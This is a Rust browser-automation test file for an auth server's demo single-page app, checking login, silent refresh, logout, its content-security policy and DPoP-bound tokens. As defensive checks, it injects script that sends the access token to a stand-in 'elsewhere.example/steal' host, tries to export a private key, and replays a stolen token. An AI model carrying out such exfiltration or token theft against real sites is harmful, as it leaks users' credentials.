//! The demo SPA and `latchkey.js` in a real headless Chromium, driven over WebDriver: login,
//! a protected call, a silent refresh before the access token runs out, two tabs refreshing at
//! once, a reload, logout; and the refresh token never where a script could read it.
//! Needs Debian's `chromium` and `chromium-driver` (`.ci/run` installs them).

use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

use crate::helpers::{Backend, PASSWORD, free_port, spawn_app_with};

/// `chromedriver` on a free loopback port, killed on drop.
pub(crate) struct Driver(Child, u16);

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

pub(crate) async fn start_driver() -> Driver {
    let port = free_port();
    let child = Command::new("chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("chromedriver must be installed (Debian: chromium-driver); .ci/run installs it");
    let driver = Driver(child, port);
    let deadline = Instant::now() + Duration::from_secs(20);
    while TcpListener::bind(("127.0.0.1", port)).is_ok() {
        assert!(Instant::now() < deadline, "chromedriver did not start");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    driver
}

pub(crate) async fn browser(driver: &Driver, profile: &std::path::Path) -> Client {
    let mut capabilities = serde_json::Map::new();
    capabilities.insert(
        "goog:chromeOptions".into(),
        json!({
            "binary": "/usr/bin/chromium",
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                "--no-first-run", "--disable-background-networking",
                "--disable-component-update", "--disable-sync",
                format!("--user-data-dir={}", profile.display()),
            ],
        }),
    );
    let connector = hyper_util::client::legacy::connect::HttpConnector::new();
    ClientBuilder::new(connector)
        .capabilities(capabilities)
        .connect(&format!("http://127.0.0.1:{}", driver.1))
        .await
        .expect("a Chromium session")
}

/// Waits (bounded) until the element's text satisfies `ok`; returns it.
pub(crate) async fn wait_text(page: &Client, id: &str, ok: impl Fn(&str) -> bool) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if let Ok(element) = page.find(Locator::Id(id)).await
            && let Ok(text) = element.text().await
            && ok(&text)
        {
            return text;
        }
        assert!(Instant::now() < deadline, "#{id} never matched");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Every place a page script could read: the refresh token is in none of them.
async fn assert_no_refresh_token_in_script_reach(page: &Client) {
    let reachable = page
        .execute(
            "return JSON.stringify([document.cookie, JSON.stringify(localStorage), \
             JSON.stringify(sessionStorage), window.latchkeyDemo.auth.accessToken])",
            vec![],
        )
        .await
        .unwrap();
    let reachable = reachable.as_str().unwrap();
    assert!(!reachable.contains("lk_rt_"), "{reachable}");
}

/// The issuer on a port of its own (its origin is the issuer URL) with the demo on, its cookie
/// client `demo-spa` registered with `client_extra` lines, and `alice`; `access_ttl` replaces
/// the test config's line of that name.
async fn demo_app(access_ttl: &str, client_extra: &str) -> (crate::helpers::TestApp, String) {
    let port = free_port();
    let origin = format!("http://127.0.0.1:{port}");
    let (access_ttl, client_extra) = (access_ttl.to_owned(), client_extra.to_owned());
    let app = spawn_app_with(Backend::Embedded, |c| {
        c.text = c
            .text
            .replace("listen = \"127.0.0.1:0\"", &format!("listen = \"127.0.0.1:{port}\""))
            .replace("issuer = \"http://127.0.0.1\"", &format!("issuer = \"{origin}\""))
            .replace("access_ttl = \"15m\"", &access_ttl);
        c.text.push_str(&format!(
            "\n[[clients]]\nid = \"demo-spa\"\ntype = \"public\"\ngrants = [\"refresh_token\"]\nrefresh_delivery = \"cookie\"\nallowed_origins = [\"{origin}\"]\n{client_extra}\n[demo]\nenabled = true\nclient_id = \"demo-spa\"\n"
        ));
    })
    .await;
    app.add_user("alice", PASSWORD).await;
    (app, origin)
}

/// Logs `alice` in through the page's form.
async fn sign_in(page: &Client) {
    for (id, keys) in [("username", "alice"), ("password", PASSWORD)] {
        page.find(Locator::Id(id))
            .await
            .unwrap()
            .send_keys(keys)
            .await
            .unwrap();
    }
    page.find(Locator::Id("sign-in"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_demo_spa_logs_in_refreshes_silently_and_logs_out_in_chromium() {
    let (_app, origin) = demo_app("access_ttl = \"6s\"", "").await;
    let driver = start_driver().await;
    let profile = tempfile::tempdir().unwrap();
    let page = browser(&driver, profile.path()).await;

    // No cookie yet: signed out.
    page.goto(&format!("{origin}/demo/")).await.unwrap();
    wait_text(&page, "status", |t| t == "signed out").await;

    sign_in(&page).await;
    wait_text(&page, "status", |t| t == "signed in").await;
    wait_text(&page, "user", |t| t == "alice").await;
    let first = wait_text(&page, "token-id", |t| !t.is_empty()).await;
    assert_no_refresh_token_in_script_reach(&page).await;

    // The access token lives 6 s; the page refreshes it silently before it runs out.
    let renewed = wait_text(&page, "token-id", |t| !t.is_empty() && t != first).await;
    page.find(Locator::Id("call"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_text(&page, "result", |t| t.contains("\"username\":\"alice\"")).await;
    // The token goes to the issuer (and listed API origins) only, never to another origin.
    let elsewhere = page
        .execute_async(
            "const done = arguments[0];
             window.latchkeyDemo.auth.fetch('https://elsewhere.example/steal')
               .then(() => done('sent'), (e) => done('refused: ' + e.message));",
            vec![],
        )
        .await
        .unwrap();
    let elsewhere = elsewhere.as_str().unwrap();
    assert!(
        elsewhere.starts_with("refused:") && elsewhere.contains("https://elsewhere.example"),
        "{elsewhere}"
    );

    // A second tab: the cookie logs it in. Both refresh at the same instant; both stay in.
    let first_tab = page.window().await.unwrap();
    let second = page.new_window(true).await.unwrap();
    page.switch_to_window(second.handle.clone()).await.unwrap();
    page.goto(&format!("{origin}/demo/")).await.unwrap();
    wait_text(&page, "status", |t| t == "signed in").await;
    let second_tab = page.window().await.unwrap();
    for tab in [&second_tab, &first_tab] {
        page.switch_to_window(tab.clone()).await.unwrap();
        page.execute("window.latchkeyDemo.refreshNow(); return true;", vec![])
            .await
            .unwrap();
    }
    for tab in [&first_tab, &second_tab] {
        page.switch_to_window(tab.clone()).await.unwrap();
        let token = wait_text(&page, "token-id", |t| !t.is_empty() && t != renewed).await;
        assert!(!token.is_empty());
        page.find(Locator::Id("call"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        wait_text(&page, "status", |t| t == "signed in").await;
        wait_text(&page, "result", |t| t.contains("alice")).await;
        assert_no_refresh_token_in_script_reach(&page).await;
    }

    // A reload keeps the user signed in: the cookie restores the session.
    page.refresh().await.unwrap();
    wait_text(&page, "status", |t| t == "signed in").await;
    wait_text(&page, "user", |t| t == "alice").await;

    // Logout ends it, in every tab and across a reload.
    page.find(Locator::Id("logout"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_text(&page, "status", |t| t == "signed out").await;
    page.refresh().await.unwrap();
    wait_text(&page, "status", |t| t == "signed out").await;
    let other = if page.window().await.unwrap() == first_tab {
        &second_tab
    } else {
        &first_tab
    };
    page.switch_to_window(other.clone()).await.unwrap();
    wait_text(&page, "status", |t| t == "signed out").await;
    assert_no_refresh_token_in_script_reach(&page).await;
    page.close().await.unwrap();
}

#[tokio::test]
async fn the_demo_is_off_by_default_and_its_pages_carry_a_strict_csp() {
    let off = spawn_app_with(Backend::Embedded, |_| {}).await;
    let page = off.get("/demo/").await;
    assert_eq!(page.status(), 404);
    assert!(
        page.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let says = page.text().await.unwrap();
    assert!(
        says.contains("The demo is off") && says.contains("enabled = true"),
        "{says}"
    );
    // Its assets are simply not there.
    assert_eq!(off.get("/demo/app.js").await.status(), 404);
    // The client module is always served.
    let module = off.get("/sdk/latchkey.js").await;
    assert_eq!(module.status(), 200);
    assert!(
        module.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/javascript")
    );
    assert!(
        module
            .text()
            .await
            .unwrap()
            .contains("export function createClient")
    );

    let on = spawn_app_with(Backend::Embedded, |c| {
        c.text.push_str(
            "\n[[clients]]\nid = \"demo-spa\"\ntype = \"public\"\ngrants = [\"refresh_token\"]\nrefresh_delivery = \"cookie\"\nallowed_origins = [\"http://127.0.0.1\"]\n\n[demo]\nenabled = true\nclient_id = \"demo-spa\"\n",
        );
    })
    .await;
    let page = on.get("/demo/").await;
    assert_eq!(page.status(), 200);
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    let html = page.text().await.unwrap();
    assert!(!html.contains("<script>"), "no inline script");
    let settings: serde_json::Value = on.get("/demo/config.json").await.json().await.unwrap();
    assert_eq!(settings["client_id"], "demo-spa");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dpop_client_binds_its_tokens_to_a_key_no_script_can_read() {
    let (app, origin) = demo_app(
        "access_ttl = \"15m\"",
        "require_dpop = true\ndpop_nonce = true\n",
    )
    .await;
    let driver = start_driver().await;
    let profile = tempfile::tempdir().unwrap();
    let page = browser(&driver, profile.path()).await;
    page.goto(&format!("{origin}/demo/")).await.unwrap();
    wait_text(&page, "status", |t| t == "signed out").await;
    sign_in(&page).await;
    // Bound, and the page's own calls (with proofs, and the server's nonce) go through.
    wait_text(&page, "status", |t| t == "signed in").await;
    wait_text(&page, "token-type", |t| t == "DPoP").await;
    wait_text(&page, "user", |t| t == "alice").await;
    let first = wait_text(&page, "token-id", |t| !t.is_empty()).await;
    page.execute("window.latchkeyDemo.refreshNow(); return true;", vec![])
        .await
        .unwrap();
    wait_text(&page, "token-id", |t| !t.is_empty() && t != first).await;
    assert_no_refresh_token_in_script_reach(&page).await;

    // The private key cannot be exported by any script of the page.
    let exported = page
        .execute_async(
            "const done = arguments[0];
             const open = indexedDB.open('latchkey-dpop', 1);
             open.onsuccess = () => {
               const get = open.result.transaction('keys').objectStore('keys').get('demo-spa');
               get.onsuccess = () => crypto.subtle.exportKey('jwk', get.result.privateKey)
                 .then(() => done('exported'), (e) => done('refused: ' + e.name));
             };",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(exported.as_str().unwrap(), "refused: InvalidAccessError");

    // A stolen access token is refused without the key, as a bearer token or without a proof.
    let stolen = page
        .execute("return window.latchkeyDemo.auth.accessToken;", vec![])
        .await
        .unwrap();
    let stolen = stolen.as_str().unwrap();
    for authorization in [format!("Bearer {stolen}"), format!("DPoP {stolen}")] {
        let response = app
            .client
            .get(app.url("/auth/userinfo"))
            .header("Authorization", authorization)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 401);
    }

    // A reload proves the same key from IndexedDB: the session goes on.
    page.refresh().await.unwrap();
    wait_text(&page, "status", |t| t == "signed in").await;
    wait_text(&page, "user", |t| t == "alice").await;
    wait_text(&page, "token-type", |t| t == "DPoP").await;
    page.close().await.unwrap();
}
